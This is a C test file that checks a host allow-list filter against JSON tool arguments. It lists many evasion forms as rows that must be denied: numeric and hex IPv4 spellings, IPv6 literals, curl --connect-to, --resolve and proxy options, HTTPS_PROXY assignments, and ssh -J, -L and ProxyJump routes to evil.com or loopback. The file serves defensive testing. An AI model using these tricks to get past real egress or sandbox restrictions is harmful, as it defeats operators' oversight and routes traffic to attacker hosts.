/* SPDX-License-Identifier: Apache-2.0 */
/*
 * tests/kernel/test_rev58_hosts.c - review 17 of the constraints: the
 * hosts domain_exact and domain_glob read in a string leaf under any key
 * (as chio reads it, docs/security.md "How a host is read"):
 *   - F1: a host written as a WHATWG IPv4 number ("3232235777:3128",
 *     "0xc0a80101:3128") or a bracketed IPv6 literal ("[::1]:3128") under
 *     a key outside the URL-ish list (requests' proxies, target) passed,
 *     while its dotted spelling was denied; "proxies" was no URL-ish key;
 *   - F2: a leaf "HOST:PORT:HOST2:PORT2" (curl's --connect-to and
 *     --resolve) was read up to its first ':' only.
 * Each row stands beside an allowed url; the allow rows are text that
 * must stay allowed (times, counts, labels, code, prose).
 */
#include <criterion/criterion.h>

#include "kernel/kernelutil.h"

#define NOW         1710000300u
#define WITH_URL(m) "{\"url\":\"https://api.example.com/\"," m "}"

Test(rev58_hosts, a_number_or_an_ipv6_literal_is_a_host_under_any_key)
{
    static const kt_row rows[] = {
        /* F1's table: requests' proxies, and other keys outside the URL-ish list */
        {KT_DX("api.example.com"), WITH_URL("\"proxies\":{\"https\":\"192.168.1.1:3128\"}"), 0},
        {KT_DX("api.example.com"), WITH_URL("\"proxies\":{\"https\":\"3232235777:3128\"}"), 0},
        {KT_DX("api.example.com"), WITH_URL("\"proxies\":{\"https\":\"0xc0a80101:3128\"}"), 0},
        {KT_DX("api.example.com"), WITH_URL("\"proxies\":{\"https\":\"[::ffff:c0a8:101]:3128\"}"),
         0},
        {KT_DX("api.example.com"), WITH_URL("\"proxies\":{\"https\":\"[::1]:3128\"}"), 0},
        {KT_DX("api.example.com"), WITH_URL("\"proxies\":{\"https\":\"2130706433:3128\"}"), 0},
        {KT_DX("api.example.com"), WITH_URL("\"proxy\":{\"https\":\"3232235777:3128\"}"), 0},
        {KT_DX("api.example.com"), WITH_URL("\"target\":\"3232235777:3128\""), 0},
        {KT_DX("api.example.com"), WITH_URL("\"target\":\"192.168.1.1:3128\""), 0},
        /* after user@, a hex or octal number alone, 0.0.0.0 before a port, a zone */
        {KT_DX("api.example.com"), WITH_URL("\"dest\":\"user@3232235777\""), 0},
        {KT_DX("api.example.com"), WITH_URL("\"dest\":\"user:pw@[::1]:3128\""), 0},
        {KT_DX("api.example.com"), WITH_URL("\"target\":\"0x7f000001\""), 0},
        {KT_DX("api.example.com"), WITH_URL("\"target\":\"017700000001\""), 0},
        {KT_DX("api.example.com"), WITH_URL("\"target\":\"0:8080\""), 0},
        {KT_DX("api.example.com"), WITH_URL("\"target\":\"00:3128\""), 0},
        {KT_DX("api.example.com"), WITH_URL("\"target\":\"[fe80::1%eth0]:80\""), 0},
        {KT_DX("api.example.com"), WITH_URL("\"x\":\"%5B::1%5D:3128\""), 0},
        /* the allowed host in those forms, and a grant naming an IPv6 literal */
        {KT_DX("api.example.com"), WITH_URL("\"target\":\"api.example.com:443\""), 1},
        {KT_DX("[::1]"),
         "{\"url\":\"http://[::1]/\",\"target\":\"[::1]:3128\",\"t2\":\"[0::1]:80\"}", 1},
        {KT_DX("192.168.1.1"),
         "{\"url\":\"http://192.168.1.1/\",\"target\":\"3232235777:3128\",\"t2\":\"0xc0a80101\"}",
         1},
        /* numbers, times and brackets that are text stay allowed */
        {KT_DX("api.example.com"), WITH_URL("\"count\":\"3232235777\""), 1},
        {KT_DX("api.example.com"), WITH_URL("\"id\":\"2130706433\",\"n\":\"10\""), 1},
        {KT_DX("api.example.com"),
         WITH_URL("\"time\":\"10:30\",\"t2\":\"10:30:45\",\"t3\":\"00:30\",\"dur\":\"1:02:03\""),
         1},
        {KT_DX("api.example.com"),
         WITH_URL("\"since\":\"2024-01-01T12:30:45.123Z\",\"t\":\"12:30:45.5\""), 1},
        {KT_DX("api.example.com"),
         WITH_URL("\"mode\":\"0755\",\"zip\":\"02134\",\"flags\":\"0x10\""), 1},
        {KT_DX("api.example.com"), WITH_URL("\"ratio\":\"16:9\",\"r2\":\"1:1000\""), 1},
        {KT_DX("api.example.com"),
         WITH_URL("\"hash\":\"0x742d35Cc6634C0532925a3b844Bc454e4438f44e\""), 1},
        {KT_DX("api.example.com"),
         WITH_URL("\"text\":\"[draft] and [10:30:00] started\",\"x\":\"[a:b]\""), 1},
        {KT_DX("api.example.com"),
         WITH_URL("\"text\":\"the address 2001:db8::1 is documentation, fe80::1 too\""), 1},
        {KT_DX("api.example.com"), WITH_URL("\"mac\":\"00:1a:2b:3c:4d:5e\""), 1},
    };

    kt_run_rows_at(NOW, rows, sizeof(rows) / sizeof(rows[0]));
}

Test(rev58_hosts, every_field_of_a_leaf_and_of_its_words_is_read)
{
    static const kt_row rows[] = {
        /* F2's table: curl's --connect-to and --resolve, and F1's numbers as options' values */
        {KT_DX("api.example.com"), WITH_URL("\"args\":[\"--proxy\",\"evil.com:3128\"]"), 0},
        {KT_DX("api.example.com"),
         WITH_URL("\"args\":[\"--connect-to\",\"api.example.com:443:evil.com:443\"]"), 0},
        {KT_DX("api.example.com"), WITH_URL("\"args\":[\"--connect-to\",\"::evil.com:\"]"), 0},
        {KT_DX("api.example.com"),
         WITH_URL("\"args\":[\"--resolve\",\"api.example.com:443:127.0.0.1\"]"), 0},
        {KT_DX("api.example.com"),
         WITH_URL("\"args\":\"--connect-to api.example.com:443:evil.com:443\""), 0},
        {KT_DX("api.example.com"), WITH_URL("\"args\":[\"-x\",\"3232235777:3128\"]"), 0},
        {KT_DX("api.example.com"), WITH_URL("\"args\":[\"--preproxy\",\"3232235777:1080\"]"), 0},
        {KT_DX("api.example.com"), WITH_URL("\"options\":\"--connect-to=::evil.com:\""), 0},
        /* the same inside the url value (URL-ish key): denied before and after */
        {KT_DX("api.example.com"),
         WITH_URL("\"url2\":\"https://api.example.com/ --connect-to ::evil.com:\""), 0},
        {KT_DX("api.example.com"),
         WITH_URL("\"url2\":\"https://api.example.com/ --resolve api.example.com:443:127.0.0.1\""),
         0},
        /* an option's value as the next word, ssh's -L, IPv6 and numbers in a later field */
        {KT_DX("api.example.com"),
         WITH_URL("\"args\":\"-x 3232235777:3128 https://api.example.com/\""), 0},
        {KT_DX("api.example.com"),
         WITH_URL("\"args\":\"curl -x evil.com https://api.example.com/\""), 0},
        {KT_DX("api.example.com"), WITH_URL("\"args\":\"ssh -L 8080:evil.com:80 host\""), 0},
        {KT_DX("api.example.com"), WITH_URL("\"args\":\"--resolve=api.example.com:443:10.0.0.1\""),
         0},
        {KT_DX("api.example.com"), WITH_URL("\"args\":[\"--connect-to\",\"::[::1]:\"]"), 0},
        {KT_DX("api.example.com"),
         WITH_URL("\"args\":[\"--connect-to\",\"api.example.com:443:2130706433:443\"]"), 0},
        {KT_DX("api.example.com"), WITH_URL("\"x\":\"api.example.com:443:[::ffff:7f00:1]:443\""),
         0},
        {KT_DX("api.example.com"),
         WITH_URL("\"text\":\"connect via api.example.com:443:evil.com:443 now\""), 0},
        /* every field allowed: the same options allowed */
        {KT_DX("api.example.com"),
         WITH_URL("\"args\":[\"--connect-to\",\"api.example.com:443:api.example.com:8443\"]"), 1},
        {KT_DX("api.example.com"),
         WITH_URL("\"opts\":\"--resolve api.example.com:443:api.example.com\""), 1},
        {KT_DG("*.example.com"),
         WITH_URL("\"args\":\"--connect-to "
                  "a.example.com:443:b.example.com:443\",\"u\":\"https://c.example.com/\""),
         1},
        {KT_DG("*.example.com"),
         WITH_URL("\"args\":\"--connect-to "
                  "a.example.com:443:evil.com:443\",\"u\":\"https://c.example.com/\""),
         0},
        /* labels, code and prose with ':' stay allowed */
        {KT_DX("api.example.com"), WITH_URL("\"label\":\"a:b:c\",\"entry\":\"main:app\""), 1},
        {KT_DX("api.example.com"),
         WITH_URL("\"text\":\"fix bug in main.py:42 please\",\"note\":\"Note: see the docs\""), 1},
        {KT_DX("api.example.com"), WITH_URL("\"code\":\"if self.ready:\\n    return self.value\""),
         1},
        {KT_DX("api.example.com"),
         WITH_URL("\"code\":\"x = {'a': os.path.join(a, b)}\\nfor k in d.items():\\n  print(k)\""),
         1},
        {KT_DX("api.example.com"),
         WITH_URL("\"code\":\"const o = {a: b.c, d: e.f}; x ? y.z : w.v; s[i:j.k]\""), 1},
        {KT_DX("api.example.com"),
         WITH_URL("\"text\":\"meet at 10:30 in room 1.2\",\"cmd\":\"--verbose --count=3\""), 1},
        {KT_DX("api.example.com"),
         WITH_URL("\"text\":\"see https://api.example.com:443/x for details\""), 1},
        {KT_DX("api.example.com"),
         WITH_URL("\"body\":\"{\\\"a\\\": \\\"10:30\\\", \\\"b\\\": 1.5}\""), 1},
        {KT_DX("api.example.com"),
         WITH_URL("\"windows\":\"C:\\\\Users\\\\me\\\\x.txt\",\"uuid\":\"123e4567-e89b-12d3-a456-"
                  "426614174000\""),
         1},
    };

    kt_run_rows_at(NOW, rows, sizeof(rows) / sizeof(rows[0]));
}

Test(rev58_hosts, a_key_word_starting_with_prox_names_a_host)
{
    static const kt_row rows[] = {
        /* a word of the key starting with prox: its values are URLs or hosts */
        {KT_DX("api.example.com"), WITH_URL("\"proxies\":{\"https\":\"3232235777\"}"), 0},
        {KT_DX("api.example.com"), WITH_URL("\"proxies\":{\"http\":\"intranet\"}"), 0},
        {KT_DX("api.example.com"), WITH_URL("\"proxied_to\":\"intranet\""), 0},
        {KT_DX("api.example.com"), WITH_URL("\"httpProxies\":{\"https\":\"intranet\"}"), 0},
        {KT_DX("api.example.com"), WITH_URL("\"http_proxies\":\"intranet\""), 0},
        {KT_DX("api.example.com"), WITH_URL("\"proxies\":{\"https\":\"https://api.example.com/\"}"),
         1},
        {KT_DX("api.example.com"), WITH_URL("\"proxies\":{\"https\":\"api.example.com\"}"), 1},
        /* approx is no such word */
        {KT_DX("api.example.com"),
         WITH_URL("\"approx\":\"intranet\",\"approx_count\":5,\"approximately\":\"3232235777\""),
         1},
    };

    kt_run_rows_at(NOW, rows, sizeof(rows) / sizeof(rows[0]));
}

/* Review 18 of these readings: F2, more ways to hand a tool a host (a
 * host option's value, glued or a bare number; KEY=VALUE words whose KEY
 * names a host; a list of addresses in a field), and F4, the false
 * denials the first version made (every option's value, times, ratios,
 * versions and a "prox" key word such as proximity). */
Test(rev58_hosts, host_options_and_host_assignments_are_read_and_ordinary_commands_are_not)
{
    static const kt_row rows[] = {
        {KT_DX("api.example.com"),
         WITH_URL("\"cmd\":\"curl -x 2130706433 https://api.example.com/\""), 0},
        {KT_DX("api.example.com"),
         WITH_URL("\"cmd\":\"curl --socks5 2130706433 https://api.example.com/\""), 0},
        {KT_DX("api.example.com"),
         WITH_URL("\"cmd\":\"curl -x0x7f000001 https://api.example.com/\""), 0},
        {KT_DX("api.example.com"),
         WITH_URL("\"cmd\":\"curl -xevil.com:3128 https://api.example.com/\""), 0},
        {KT_DX("api.example.com"),
         WITH_URL("\"cmd\":\"curl --proxy=evil.com https://api.example.com/\""), 0},
        {KT_DX("api.example.com"),
         WITH_URL("\"cmd\":\"HTTPS_PROXY=evil.com:3128 curl https://api.example.com/\""), 0},
        {KT_DX("api.example.com"), WITH_URL("\"env\":[\"HTTPS_PROXY=2130706433:3128\"]"), 0},
        {KT_DX("api.example.com"), WITH_URL("\"cmd\":\"ssh -o ProxyJump=evil.com host\""), 0},
        {KT_DX("api.example.com"), WITH_URL("\"cmd\":\"ssh -oProxyJump=evil.com host\""), 0},
        {KT_DX("api.example.com"), WITH_URL("\"cmd\":\"ssh -J evil.com host\""), 0},
        {KT_DX("api.example.com"),
         WITH_URL("\"cmd\":\"curl --resolve api.example.com:443:10.0.0.1,10.0.0.2 "
                  "https://api.example.com/\""),
         0},
        {KT_DX("api.example.com"),
         WITH_URL(
             "\"cmd\":\"curl --resolve api.example.com:443:10.0.0.1 https://api.example.com/\""),
         0},
        {KT_DX("api.example.com"),
         WITH_URL("\"args\":[\"--connect-to\",\"api.example.com:443:evil.com:443\"]"), 0},
        /* F4: ordinary commands and values stay allowed */
        {KT_DX("api.example.com"), WITH_URL("\"cmd\":\"pip install -r requirements.txt\""), 1},
        {KT_DX("api.example.com"), WITH_URL("\"cmd\":\"kubectl apply -f deploy.yaml\""), 1},
        {KT_DX("api.example.com"), WITH_URL("\"cmd\":\"tar -xzf archive.tar.gz\""), 1},
        {KT_DX("api.example.com"), WITH_URL("\"cmd\":\"python -m http.server 8000\""), 1},
        {KT_DX("api.example.com"),
         WITH_URL("\"cmd\":\"curl -o out.json https://api.example.com/\""), 1},
        {KT_DX("api.example.com"),
         WITH_URL("\"cmd\":\"ffmpeg -i in.mp4 -ss 1:23.5 -t 0:30.25 out.mp4\""), 1},
        {KT_DX("api.example.com"), WITH_URL("\"ts\":\"1:23.456\""), 1},
        {KT_DX("api.example.com"), WITH_URL("\"version\":\"1:2.34-1ubuntu1\""), 1},
        {KT_DX("api.example.com"), WITH_URL("\"cmd\":\"apt-get install libc6=1:2.36-9\""), 1},
        {KT_DX("api.example.com"), WITH_URL("\"cmd\":\"python train.py --lr:0.001\""), 1},
        {KT_DX("api.example.com"), WITH_URL("\"text\":\"ratio 16:9 at 1:1.5 scale\""), 1},
        {KT_DX("api.example.com"), WITH_URL("\"geo\":\"lat:48.8566,lon:2.3522\""), 1},
        {KT_DX("api.example.com"), WITH_URL("\"pair\":\"key:0x1234567\""), 1},
        {KT_DX("api.example.com"), WITH_URL("\"proximity\":\"near\""), 1},
        {KT_DX("api.example.com"), WITH_URL("\"image\":\"nginx:1.25.3\""), 1},
        {KT_DX("api.example.com"), WITH_URL("\"cmd\":\"docker pull redis:7.2\""), 1},
        {KT_DX("api.example.com"), WITH_URL("\"env\":[\"DEBUG=1\",\"LOG_FILE=app.log\"]"), 1},
    };

    kt_run_rows_at(NOW, rows, sizeof(rows) / sizeof(rows[0]));
}
